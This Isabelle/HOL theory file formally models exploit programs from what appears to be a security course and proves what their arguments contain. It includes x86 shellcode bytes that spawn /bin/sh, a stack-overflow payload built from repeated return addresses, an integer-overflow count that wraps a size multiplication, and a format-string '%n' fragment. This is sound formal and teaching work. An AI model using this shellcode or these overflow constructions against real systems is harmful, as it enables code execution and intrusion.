(* ===== verification/BufferExploits.thy ===== *)
theory BufferExploits
  imports BufferTargets
begin

text \<open>
  The programs \<open>cse127/pp1/sploits/sploit1.c\<close> to \<open>sploit5.c\<close>, each of which executes one of the targets with an argument
  that it builds, composed with the models of the targets. \<open>execve\<close> is a parameter: \<^term>\<open>None\<close> if it fails, otherwise
  what the new program does. Three of the programs are templates with a harmless argument; the theory shows
  which of the others do what they are meant to. An array holds some bytes before it is written (\<open>junk\<close>).
\<close>

section \<open>Running a target\<close>

datatype 'r exec_result = Became 'r | Failed string nat

definition exec_target :: "(string \<Rightarrow> string list \<Rightarrow> 'r option) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'r exec_result" where
  "exec_target execve target a =
     (case execve target [target, a] of None \<Rightarrow> Failed (''execve failed.'' @ [newline]) 0 | Some r \<Rightarrow> Became r)"

text \<open>The string that starts at the beginning of an array; without a NUL it would be read past the end.\<close>

definition array_string :: "string \<Rightarrow> string option" where
  "array_string buf = (if NUL \<in> set buf then Some (cstr buf) else None)"

section \<open>The templates\<close>

definition sploit1_main :: "(string \<Rightarrow> string list \<Rightarrow> 'r option) \<Rightarrow> 'r exec_result" where
  "sploit1_main execve = exec_target execve ''/tmp/target1'' ''hi there''"

definition sploit2_main :: "(string \<Rightarrow> string list \<Rightarrow> 'r option) \<Rightarrow> 'r exec_result" where
  "sploit2_main execve = exec_target execve ''/tmp/target2'' ''hi there''"

definition sploit4_main :: "(string \<Rightarrow> string list \<Rightarrow> 'r option) \<Rightarrow> 'r exec_result" where
  "sploit4_main execve = exec_target execve ''/tmp/target4'' ''hi there''"

section \<open>The exploit of the third target\<close>

definition shellcode :: string where
  "shellcode = map char_of
     [0xeb, 0x1f, 0x5e, 0x89, 0x76, 0x08, 0x31, 0xc0, 0x88, 0x46, 0x07, 0x89, 0x46, 0x0c, 0xb0, 0x0b,
      0x89, 0xf3, 0x8d, 0x4e, 0x08, 0x8d, 0x56, 0x0c, 0xcd, 0x80, 0x31, 0xdb, 0x89, 0xd8, 0x40, 0xcd,
      0x80, 0xe8, 0xdc, 0xff, 0xff, 0xff :: nat] @ ''/bin/sh''"

text \<open>The first loop writes the address \<open>0xbfffd268\<close> over and over, from index \<open>i\<close> on.\<close>

definition address_bytes :: string where
  "address_bytes = [CHR 0x68, CHR 0xD2, CHR 0xFF, CHR 0xBF]"

function fill_addresses :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "fill_addresses i overflow =
     (if i < 5660 then
        fill_addresses (i + 4) (overflow[i := CHR 0x68, i + 1 := CHR 0xD2, i + 2 := CHR 0xFF, i + 3 := CHR 0xBF])
      else overflow)"
  by pat_completeness auto

termination
  by (relation "measure (\<lambda>(i, overflow). 5660 - i)") auto

declare fill_addresses.simps [simp del]

function write_shellcode :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "write_shellcode i overflow =
     (if i < length shellcode + 11 then write_shellcode (i + 1) (overflow[i := shellcode ! (i - 11)]) else overflow)"
  by pat_completeness auto

termination
  by (relation "measure (\<lambda>(i, overflow). length shellcode + 11 - i)") auto

declare write_shellcode.simps [simp del]

definition write_count :: "string \<Rightarrow> string" where
  "write_count overflow =
     overflow[0 := CHR ''2'', 1 := CHR ''1'', 2 := CHR ''4'', 3 := CHR ''7'', 4 := CHR ''4'', 5 := CHR ''8'',
       6 := CHR ''3'', 7 := CHR ''8'', 8 := CHR ''4'', 9 := CHR ''9'', 10 := CHR '','']"

definition sploit3_overflow :: "string \<Rightarrow> string" where
  "sploit3_overflow junk = write_count (write_shellcode 11 (fill_addresses 3 junk))"

definition sploit3_main :: "string \<Rightarrow> (string \<Rightarrow> string list \<Rightarrow> 'r option) \<Rightarrow> 'r exec_result option" where
  "sploit3_main junk execve = map_option (exec_target execve ''/tmp/target3'') (array_string (sploit3_overflow junk))"

section \<open>The exploit of the fifth target\<close>

text \<open>
  The array is declared as one of pointers: each assignment stores four bytes, the character and three zeros.
\<close>

type_synonym word_array = "u32 list"

definition pointer_bytes :: "u32 \<Rightarrow> string" where
  "pointer_bytes w = map (\<lambda>k. char_of (unat (drop_bit (8 * k) w) mod 256)) [0, 1, 2, 3]"

definition sploit5_overflow :: word_array where
  "sploit5_overflow =
     (replicate 200 (of_char CHR ''h''))
       [128 := of_char CHR ''%'', 129 := of_char CHR ''0'', 130 := of_char CHR ''8'', 131 := of_char CHR ''x'',
        128 := of_char CHR ''%'', 129 := of_char CHR ''0'', 130 := of_char CHR ''8'', 131 := of_char CHR ''x'',
        132 := of_char CHR ''%'', 133 := of_char CHR ''n'']"

definition sploit5_main :: "(string \<Rightarrow> string list \<Rightarrow> 'r option) \<Rightarrow> 'r exec_result option" where
  "sploit5_main execve = map_option (exec_target execve ''/tmp/target5'') (array_string (concat (map pointer_bytes sploit5_overflow)))"

section \<open>What the exploits do\<close>

text \<open>The machine on which the targets are installed, with the memory each of them finds on its stack\<close>

definition machine :: "u32 \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> nat option option" where
  "machine arena junk widgets path argv =
     (if path = ''/tmp/target1'' then Some (target1_main junk argv)
      else if path = ''/tmp/target2'' then Some (target2_main junk argv)
      else if path = ''/tmp/target3'' then Some (target3_main widgets argv)
      else if path = ''/tmp/target4'' then Some (target4_main arena argv)
      else if path = ''/tmp/target5'' then Some (target5_main junk argv)
      else None)"

lemma fill_addresses_length [simp]: "length (fill_addresses i xs) = length xs"
  by (induction i xs rule: fill_addresses.induct) (subst fill_addresses.simps, simp)

lemma write_shellcode_length [simp]: "length (write_shellcode i xs) = length xs"
  by (induction i xs rule: write_shellcode.induct) (subst write_shellcode.simps, simp)

lemma fill_addresses_nth:
  "length xs = 5664 \<Longrightarrow> i \<le> 5663 \<Longrightarrow> i mod 4 = 3 \<Longrightarrow> n < 5664 \<Longrightarrow>
   fill_addresses i xs ! n = (if i \<le> n \<and> n < 5663 then address_bytes ! ((n + 1) mod 4) else xs ! n)"
proof (induction i xs rule: fill_addresses.induct)
  case (1 i xs)
  show ?case
  proof (cases "i < 5660")
    case True
    have l: "i + 4 \<le> 5663" using True 1(4) by presburger
    have m: "(i + 4) mod 4 = 3" using 1(4) by presburger
    let ?ys = "xs[i := CHR 0x68, i + 1 := CHR 0xD2, i + 2 := CHR 0xFF, i + 3 := CHR 0xBF]"
    have IH: "fill_addresses (i + 4) ?ys ! n = (if i + 4 \<le> n \<and> n < 5663 then address_bytes ! ((n + 1) mod 4) else ?ys ! n)"
      using 1(1) [OF True] 1(2,5) l m by simp
    consider "n < i" | "n = i" | "n = i + 1" | "n = i + 2" | "n = i + 3" | "i + 4 \<le> n" by linarith
    then show ?thesis
    proof cases
      case 2
      then have "(n + 1) mod 4 = 0" using 1(4) by presburger
      with 2 show ?thesis using IH True 1(2) l by (subst fill_addresses.simps) (simp add: address_bytes_def)
    next
      case 3
      then have "(n + 1) mod 4 = 1" using 1(4) by presburger
      with 3 show ?thesis using IH True 1(2) l by (subst fill_addresses.simps) (simp add: address_bytes_def)
    next
      case 4
      then have "(n + 1) mod 4 = 2" using 1(4) by presburger
      with 4 show ?thesis using IH True 1(2) l by (subst fill_addresses.simps) (simp add: address_bytes_def)
    next
      case 5
      then have "(n + 1) mod 4 = 3" using 1(4) by presburger
      with 5 show ?thesis using IH True 1(2) l by (subst fill_addresses.simps) (simp add: address_bytes_def)
    qed (use IH True in \<open>subst fill_addresses.simps, simp\<close>)+
  next
    case False
    then have "i = 5663" using 1(3,4) by presburger
    then show ?thesis by (subst fill_addresses.simps) auto
  qed
qed

lemma write_shellcode_nth:
  "length shellcode + 11 \<le> length xs \<Longrightarrow> 11 \<le> i \<Longrightarrow>
   write_shellcode i xs ! n = (if i \<le> n \<and> n < length shellcode + 11 then shellcode ! (n - 11) else xs ! n)"
proof (induction i xs rule: write_shellcode.induct)
  case (1 i xs)
  show ?case
  proof (cases "i < length shellcode + 11")
    case True
    have "write_shellcode (i + 1) (xs[i := shellcode ! (i - 11)]) ! n =
        (if i + 1 \<le> n \<and> n < length shellcode + 11 then shellcode ! (n - 11) else xs[i := shellcode ! (i - 11)] ! n)"
      using 1(1) [OF True] 1(2,3) by simp
    then show ?thesis using True 1(2) by (subst write_shellcode.simps) (auto simp: nth_list_update not_less_eq_eq)
  qed (subst write_shellcode.simps, auto)
qed

lemma shellcode_facts: "length shellcode = 45" "NUL \<notin> set shellcode"
  by (code_simp)+

lemma sploit3_length [simp]: "length (sploit3_overflow junk) = length junk"
  by (simp add: sploit3_overflow_def write_count_def)

text \<open>What the array of the third exploit holds\<close>

lemma sploit3_nth:
  assumes "length junk = 5664" "n < 5664"
  shows "sploit3_overflow junk ! n =
    (if n < 11 then ''2147483849,'' ! n else if n < 56 then shellcode ! (n - 11)
     else if n < 5663 then address_bytes ! ((n + 1) mod 4) else junk ! n)"
proof (cases "n < 11")
  case True
  then have "n \<in> {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10}" by (simp, arith)
  then show ?thesis using assms True by (auto simp: sploit3_overflow_def write_count_def)
next
  case False
  then have "sploit3_overflow junk ! n = write_shellcode 11 (fill_addresses 3 junk) ! n"
    by (simp add: sploit3_overflow_def write_count_def)
  then show ?thesis
    using False assms write_shellcode_nth [of "fill_addresses 3 junk" 11 n] fill_addresses_nth [of junk 3 n]
    by (simp add: shellcode_facts)
qed

lemma sploit3_chars: "length junk = 5664 \<Longrightarrow> n < 5663 \<Longrightarrow> sploit3_overflow junk ! n \<noteq> NUL"
proof -
  assume a: "length junk = 5664" "n < 5663"
  have "address_bytes ! ((n + 1) mod 4) \<in> set address_bytes" by (rule nth_mem) (simp add: address_bytes_def)
  then have "address_bytes ! ((n + 1) mod 4) \<noteq> NUL" by (auto simp: address_bytes_def)
  moreover have "n < 56 \<Longrightarrow> \<not> n < 11 \<Longrightarrow> shellcode ! (n - 11) \<noteq> NUL"
    using shellcode_facts nth_mem [of "n - 11" shellcode] by force
  moreover have "n < 11 \<Longrightarrow> ''2147483849,'' ! n \<noteq> NUL" using nth_mem [of n "''2147483849,''"] by auto
  ultimately show ?thesis using a by (simp add: sploit3_nth)
qed

text \<open>The argument of the third exploit; it is terminated only if the last byte of the array happens to be a NUL.\<close>

lemma sploit3_argument:
  assumes "length junk = 5664" "junk ! 5663 = NUL"
  shows "array_string (sploit3_overflow junk) = Some (''2147483849,'' @ drop 11 (take 5663 (sploit3_overflow junk)))"
proof -
  let ?o = "sploit3_overflow junk"
  have count: "take 11 ?o = ''2147483849,''"
    using assms(1) by (intro nth_equalityI) (simp_all add: sploit3_nth)
  have "?o ! 5663 = NUL" using assms by (simp add: sploit3_nth)
  then have split: "?o = take 5663 ?o @ [NUL]" using take_Suc_conv_app_nth [of 5663 ?o] assms(1) by simp
  have "NUL \<notin> set (take 5663 ?o)" using sploit3_chars [OF assms(1)] assms(1) by (auto simp: in_set_conv_nth)
  then have "takeWhile (\<lambda>c. c \<noteq> NUL) (take 5663 ?o @ [NUL]) = take 5663 ?o" by (subst takeWhile_append2) auto
  then have "array_string ?o = Some (take 5663 ?o)" using split by (metis array_string_def cstr_def in_set_conv_decomp)
  moreover have "take 5663 ?o = take 11 ?o @ drop 11 (take 5663 ?o)" using append_take_drop_id [of 11 "take 5663 ?o"] by (simp add: min_def)
  ultimately show ?thesis using count by metis
qed

lemma sploit3_open:
  assumes "length junk = 5664" "junk ! 5663 \<noteq> NUL"
  shows "sploit3_main junk execve = None"
proof -
  have "sploit3_overflow junk ! n \<noteq> NUL" if "n < 5664" for n
    using that assms sploit3_chars [of junk n] by (cases "n = 5663") (simp_all add: sploit3_nth)
  then have "NUL \<notin> set (sploit3_overflow junk)" using assms(1) by (auto simp: in_set_conv_nth)
  then show ?thesis by (simp add: sploit3_main_def array_string_def)
qed

text \<open>The fifth exploit passes the first character only, because three zeros follow it.\<close>

lemma sploit5_argument: "array_string (concat (map pointer_bytes sploit5_overflow)) = Some ''h''"
proof -
  have "length sploit5_overflow = 200" "sploit5_overflow ! 0 = of_char CHR ''h''" by (simp_all add: sploit5_overflow_def)
  then obtain ws where ws: "sploit5_overflow = of_char CHR ''h'' # ws" by (metis Suc_length_conv nth_Cons_0 numeral_eq_Suc)
  have "pointer_bytes (of_char CHR ''h'') = [CHR ''h'', NUL, NUL, NUL]" by code_simp
  then show ?thesis unfolding ws by (simp add: array_string_def cstr_def)
qed



section \<open>The trial of the wrap-around\<close>

text \<open>
  \<open>test.c\<close> multiplies the count by the size of a widget in \<open>int\<close>. The product is the 5628 of the third exploit only modulo
  \<open>2\<^sup>3\<^sup>2\<close>; as a product of signed integers it overflows.
\<close>

definition test_product :: "int \<Rightarrow> int \<Rightarrow> int option" where
  "test_product i b = (if - (2 ^ 31) \<le> i * b \<and> i * b < 2 ^ 31 then Some (i * b) else None)"

definition test_main :: "(string \<times> int \<times> string \<times> int) option" where
  "test_main =
     (let i = sint (0x800000c9 :: u32); b = 28
      in map_option (\<lambda>m. (''Addition of 0x800000c9: '', i + b, ''Multiplication of 0x800000c9: '', m)) (test_product i b))"

lemma test_overflows: "test_main = None" "(sint (0x800000c9 :: u32) * 28) mod 2 ^ 32 = 5628"
  by (simp_all add: test_main_def test_product_def Let_def)

end
